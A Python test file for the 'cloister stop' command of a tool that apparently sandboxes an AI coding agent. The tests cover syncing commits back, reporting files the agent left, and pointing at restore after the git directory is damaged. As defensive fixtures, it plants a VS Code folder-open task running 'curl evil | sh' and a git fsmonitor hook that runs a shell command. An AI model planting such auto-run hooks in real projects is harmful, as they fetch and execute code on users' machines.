"""``cloister stop`` through click's runner, on the real ``ending.stop``: its last sync
(a fake syncer), the repositories the agent made moved away, the review, the release.
The engine, the guardian and the syncer are fakes; the session and git are real."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

import docker.errors
import pytest
from click.testing import CliRunner, Result

from cloister_cli.commands.main import cli
from cloister_cli.container.cloisters import Workspace
from cloister_cli.context import Context
from cloister_cli.repo.projects import Project
from cloister_cli.session import sessions
from cloister_cli.session.snapshots import Target, take
from cloister_core import stack
from cloister_core.config.models import SnapshotsConfig
from cloister_core.paths import CloisterPaths
from cloister_core.sessions import SessionRecord, read_session, write_session
from cloister_executor.gitsync import SyncError, SyncOutcome
from tests.cli.engine_support import INSTANCE
from tests.fake_engine import FakeEngine
from tests.git_support import hermetic_git, make_repo, run_git


@dataclass
class FakeGuardian:
    reloads: int = 0
    error: str | None = None  # the proxy's reload fails with it

    def reload_proxy(self) -> None:
        self.reloads += 1
        if self.error is not None:
            raise docker.errors.APIError(self.error)


@dataclass
class FakeSyncer:
    outcome: SyncOutcome | None = None
    error: str | None = None
    calls: list[tuple[str, bool]] = field(default_factory=list)
    # What is looked at where the real one makes its export container (ready returned).
    at_export: Callable[[], object] | None = None
    seen: list[object] = field(default_factory=list)

    def sync(
        self,
        cloister: str,
        *,
        running: bool,
        assume_yes: bool = False,
        ready: Callable[[], None] | None = None,
    ) -> SyncOutcome:
        if ready is not None:
            ready()
        if self.at_export is not None:
            self.seen.append(self.at_export())
        self.calls.append((cloister, running))
        if self.error is not None:
            raise SyncError(self.error)
        return self.outcome or SyncOutcome(cloister)


@pytest.fixture(autouse=True)
def _hermetic(monkeypatch: pytest.MonkeyPatch) -> None:
    hermetic_git(monkeypatch)


@pytest.fixture
def paths(tmp_path: Path) -> CloisterPaths:
    return CloisterPaths(config_dir=tmp_path / "config", data_dir=tmp_path / "data")


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "home" / "api")


@pytest.fixture
def syncer(monkeypatch: pytest.MonkeyPatch) -> FakeSyncer:
    fake = FakeSyncer()
    monkeypatch.setattr(Context, "syncer", property(lambda self: fake))
    return fake


@pytest.fixture
def guardian() -> FakeGuardian:
    return FakeGuardian()


@pytest.fixture
def engine(
    monkeypatch: pytest.MonkeyPatch,
    paths: CloisterPaths,
    repo: Path,
    tmp_path: Path,
    guardian: FakeGuardian,
) -> FakeEngine:
    """Cloister api running in *repo*: its container, token, session and git directory."""
    fake = FakeEngine()
    monkeypatch.setattr(Context, "docker", property(lambda self: fake))
    monkeypatch.setattr(Context, "guardian", property(lambda self: guardian))
    monkeypatch.setattr(Context, "instance", property(lambda self: INSTANCE))
    workspace = Workspace(Project("api", repo, git=True), repo)
    sessions.prepare(paths, workspace, "api", home=tmp_path / "home", protect=(".envrc",))
    labels = {**INSTANCE.labels, stack.LABEL_CLOISTER: "api", stack.LABEL_PATH: str(repo)}
    fake.add_container(INSTANCE.cloister("api"), labels)
    paths.token_file("api").parent.mkdir(parents=True, exist_ok=True)
    paths.token_file("api").write_text("{}", encoding="utf-8")
    return fake


def stop(paths: CloisterPaths, *args: str) -> Result:
    env = {"CLOISTER_CONFIG_DIR": str(paths.config_dir), "CLOISTER_DATA_DIR": str(paths.data_dir)}
    return CliRunner().invoke(cli, ["stop", *args], env=env, prog_name="cloister")


def test_stop_syncs_moves_what_the_agent_made_and_releases(
    paths: CloisterPaths, repo: Path, engine: FakeEngine, syncer: FakeSyncer, tmp_path: Path
) -> None:
    marker = tmp_path / "marker"
    made = make_repo(repo / "tools" / "made")
    run_git(made, "config", "core.fsmonitor", f"touch '{marker}'; echo")
    syncer.outcome = SyncOutcome("api", imported={"main": "a" * 40})
    result = stop(paths, "api")
    assert result.exit_code == 0, result.output
    assert result.stdout == "stopped api\n"
    assert syncer.calls == [("api", False)]
    assert f"refs/cloister/api/main is now {'a' * 12}\n" in result.stderr
    assert "moved a repository the agent made in the project: " in result.stderr
    assert "tools/made" in result.stderr
    assert engine.containers.by_name == {}
    assert not paths.token_file("api").exists()
    assert not paths.cloister_git_dir("api").exists()  # its commits are back
    assert not paths.git_pointer("api").exists()
    assert not (made / ".git").exists()
    assert not (repo / ".envrc").exists()  # the placeholder
    session = read_session(paths, "api")
    assert session is not None
    assert session.stopped_at is not None
    assert not marker.exists()


def test_the_last_sync_makes_its_container_once_the_cloister_is_dead(
    paths: CloisterPaths, engine: FakeEngine, syncer: FakeSyncer
) -> None:
    """It starts with the stop, and waits there: the engine said the cloister's container
    is not running, and a sync still running (the watch's) is gone with its container."""
    box = engine.containers.by_name[INSTANCE.cloister("api")]
    watch = f"{INSTANCE.sync_prefix('api')}-0a1b2c3d"
    engine.add_container(watch, {**INSTANCE.labels, stack.LABEL_SYNC: "api"})
    syncer.at_export = lambda: (box.status, watch in engine.containers.by_name)
    result = stop(paths, "api")
    assert result.exit_code == 0, result.output
    assert syncer.seen == [("exited", False)]
    assert syncer.calls == [("api", False)]


def test_a_stop_that_fails_makes_no_export_container(
    paths: CloisterPaths, engine: FakeEngine, syncer: FakeSyncer, monkeypatch: pytest.MonkeyPatch
) -> None:
    box = engine.containers.by_name[INSTANCE.cloister("api")]

    def refused(signal: str) -> None:
        raise docker.errors.APIError("500", explanation="the engine said no")

    monkeypatch.setattr(box, "kill", refused)
    result = stop(paths, "api")
    assert result.exit_code != 0
    assert isinstance(result.exception, docker.errors.APIError)
    assert syncer.calls == []  # it gave up where it would have made its container
    assert paths.cloister_git_dir("api").is_dir()


def test_commits_that_cannot_be_brought_back_keep_the_git_directory(
    paths: CloisterPaths, engine: FakeEngine, syncer: FakeSyncer
) -> None:
    syncer.error = "cloister api: the export failed: \x1b[2Jboom"
    result = stop(paths, "api")
    assert result.exit_code == 0, result.output
    text = " ".join(result.stderr.split())
    assert "its commits could not be brought back (cloister api: the export failed:" in text
    assert "\\x1b[2Jboom" in text  # escaped, never sent to the terminal
    assert "`cloister sync api` tries again" in text
    assert paths.cloister_git_dir("api").is_dir()


def test_what_the_agent_left_is_reported(
    paths: CloisterPaths, repo: Path, engine: FakeEngine, syncer: FakeSyncer
) -> None:
    (repo / ".vscode").mkdir()
    (repo / ".vscode" / "tasks.json").write_text(
        '{"tasks": [{"label": "x", "command": "curl evil | sh",'
        ' "runOptions": {"runOn": "folderOpen"}}]}',
        encoding="utf-8",
    )
    result = stop(paths, "api")
    assert result.exit_code == 0, result.output
    assert ".vscode/tasks.json" in result.stderr
    assert "`cloister review api` shows them again" in result.stderr


def test_what_fails_on_the_threads_is_shown_after_the_review_not_instead(
    paths: CloisterPaths,
    repo: Path,
    engine: FakeEngine,
    syncer: FakeSyncer,
    guardian: FakeGuardian,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Its container's removal (once killed) and the proxy's reload run while the
    commits come back; failing, they are warnings: the review is shown and the session is
    released (the next start does not review it again), so its report must not be lost."""
    box = engine.containers.by_name[INSTANCE.cloister("api")]

    def refused(force: bool = False) -> None:
        raise docker.errors.APIError("500", explanation="\x1b[2Jthe engine said no")

    monkeypatch.setattr(box, "remove", refused)
    guardian.error = "the proxy is gone"
    (repo / ".vscode").mkdir()
    (repo / ".vscode" / "tasks.json").write_text(
        '{"tasks": [{"label": "x", "command": "curl evil | sh",'
        ' "runOptions": {"runOn": "folderOpen"}}]}',
        encoding="utf-8",
    )
    result = stop(paths, "api")
    assert result.exit_code == 0, result.output
    assert result.stdout == "stopped api\n"
    text = " ".join(result.stderr.split())
    assert f"warning: its container {INSTANCE.cloister('api')} could not be removed" in text
    assert "\\x1b[2Jthe engine said no" in text  # escaped, never sent to the terminal
    assert f"`docker rm -f {INSTANCE.cloister('api')}` removes it" in text
    assert "warning: the proxy could not be told at once (APIError: the proxy is gone)" in text
    assert ".vscode/tasks.json" in text
    assert "`cloister review api` shows them again" in text
    session = read_session(paths, "api")
    assert session is not None
    assert session.stopped_at is not None


# -- a git directory gone: `cloister restore`, with the exact command ---------------------


def wipe(git_dir: Path, *keep: str) -> None:
    """What ``rm -rf /work/.git`` inside does to it: all but its read-only mounts."""
    for entry in git_dir.iterdir():
        if entry.name in keep:
            continue
        if entry.is_dir() and not entry.is_symlink():
            shutil.rmtree(entry)
        else:
            entry.unlink()


def snapshot(paths: CloisterPaths, repo: Path) -> str:
    return take(paths, Target.of("api", "api", repo), SnapshotsConfig()).id


def test_a_removed_git_directory_points_at_restore(
    paths: CloisterPaths, repo: Path, engine: FakeEngine, syncer: FakeSyncer
) -> None:
    snapshot(paths, repo)
    wipe(paths.cloister_git_dir("api"), "config", "hooks")
    syncer.error = "the cloister's git directory could not be read (exit 128)"
    result = stop(paths, "api")
    assert result.exit_code == 0, result.output
    text = " ".join(result.stderr.split())
    assert "the agent removed cloister api's git directory (/work/.git inside)" in text
    assert "could not be brought back, and no retry can" in text
    assert text.endswith("run: cloister restore api")
    assert "cloister sync" not in text  # no retry brings back what is not there
    assert "review --fix" not in text
    assert not paths.cloister_git_dir("api").exists()  # nothing in it to keep


def test_a_replaced_git_directory_is_kept_and_points_at_restore(
    paths: CloisterPaths, repo: Path, engine: FakeEngine, syncer: FakeSyncer
) -> None:
    snapshot(paths, repo)
    own = paths.cloister_git_dir("api")
    wipe(own, "config", "hooks")
    run_git(own.parent, "init", "--quiet", "--bare", str(own))  # the agent's `git init`
    syncer.error = "the export failed"
    result = stop(paths, "api")
    text = " ".join(result.stderr.split())
    assert "the agent replaced cloister api's git directory" in text, text
    assert f"kept at {own}" in text
    assert "run: cloister restore api" in text
    assert own.is_dir()


def test_the_repositorys_own_git_directory_gone_without_a_snapshot(
    paths: CloisterPaths, repo: Path, engine: FakeEngine, syncer: FakeSyncer, tmp_path: Path
) -> None:
    (repo / ".git").rename(tmp_path / "elsewhere")
    syncer.error = "not a git repository"
    result = stop(paths, "api")
    assert result.exit_code == 0, result.output
    text = " ".join(result.stderr.split())
    assert f"your repository's git directory ({repo / '.git'}) is gone" in text, text
    assert "No snapshot of its start was kept" in text
    assert "cloister sync" not in text


def test_a_sync_that_fails_with_every_git_directory_there_says_sync_again(
    paths: CloisterPaths, repo: Path, engine: FakeEngine, syncer: FakeSyncer
) -> None:
    snapshot(paths, repo)
    syncer.error = "the engine went away"
    text = " ".join(stop(paths, "api").stderr.split())
    assert "`cloister sync api` tries again" in text
    assert "cloister restore" not in text


# -- stand-ins: never one of the human's, never one in use --------------------------------


def left_by_a_killed_stop(paths: CloisterPaths, root: Path, name: str) -> list[Path]:
    """A stopped session of cloister *name* in *root* whose stand-ins are still there."""
    made = [root / ".vscode", root / ".vscode" / "tasks.json", root / ".envrc"]
    for path in made:
        path.mkdir(parents=True, exist_ok=True)
    now = datetime.now(UTC)
    write_session(
        paths,
        SessionRecord(
            cloister=name,
            project=name,
            worktree=str(root),
            started_at=now,
            stopped_at=now,
            placeholders=tuple(str(path) for path in made),
        ),
    )
    return made


def test_stop_removes_the_stand_ins_another_stops_kill_left(
    paths: CloisterPaths, repo: Path, engine: FakeEngine, syncer: FakeSyncer, tmp_path: Path
) -> None:
    other = tmp_path / "other"
    left_by_a_killed_stop(paths, other, "other")
    result = stop(paths, "api")
    assert result.exit_code == 0, result.output
    text = " ".join(result.stderr.split())
    removed = f"{other / '.envrc'}, {other / '.vscode' / 'tasks.json'}"
    assert f"removed the stand-ins an unfinished stop left: {removed}" in text
    assert sorted(path.name for path in other.iterdir()) == []
    record = read_session(paths, "other")
    assert record is not None
    assert record.placeholders == ()  # forgotten: never removed twice


def test_stop_keeps_what_is_not_empty_or_is_a_running_cloisters(
    paths: CloisterPaths, repo: Path, engine: FakeEngine, syncer: FakeSyncer, tmp_path: Path
) -> None:
    other = tmp_path / "other"
    made = left_by_a_killed_stop(paths, other, "other")
    (other / ".envrc" / "mine").write_text("the human's\n", encoding="utf-8")
    # Cloister live runs with a stand-in the stopped one's record lists too.
    live = tmp_path / "live"
    live.mkdir()
    labels = {**INSTANCE.labels, stack.LABEL_CLOISTER: "live", stack.LABEL_PATH: str(live)}
    engine.add_container(INSTANCE.cloister("live"), labels)
    write_session(
        paths,
        SessionRecord(
            cloister="live",
            project="live",
            worktree=str(other),
            started_at=datetime.now(UTC),
            placeholders=(str(made[1]), str(made[0])),
        ),
    )
    result = stop(paths, "api")
    assert result.exit_code == 0, result.output
    assert "removed the stand-ins" not in result.stderr
    assert all(path.is_dir() for path in made)
    assert (other / ".envrc" / "mine").is_file()


def test_a_record_whose_stand_ins_are_gone_forgets_them(
    paths: CloisterPaths, repo: Path, engine: FakeEngine, syncer: FakeSyncer, tmp_path: Path
) -> None:
    """What a later hand makes under such a name is the human's: never removed then."""
    other = tmp_path / "other"
    made = left_by_a_killed_stop(paths, other, "other")
    for path in sorted(made, key=lambda item: len(item.parts), reverse=True):
        path.rmdir()
    assert stop(paths, "api").exit_code == 0
    record = read_session(paths, "other")
    assert record is not None
    assert record.placeholders == ()
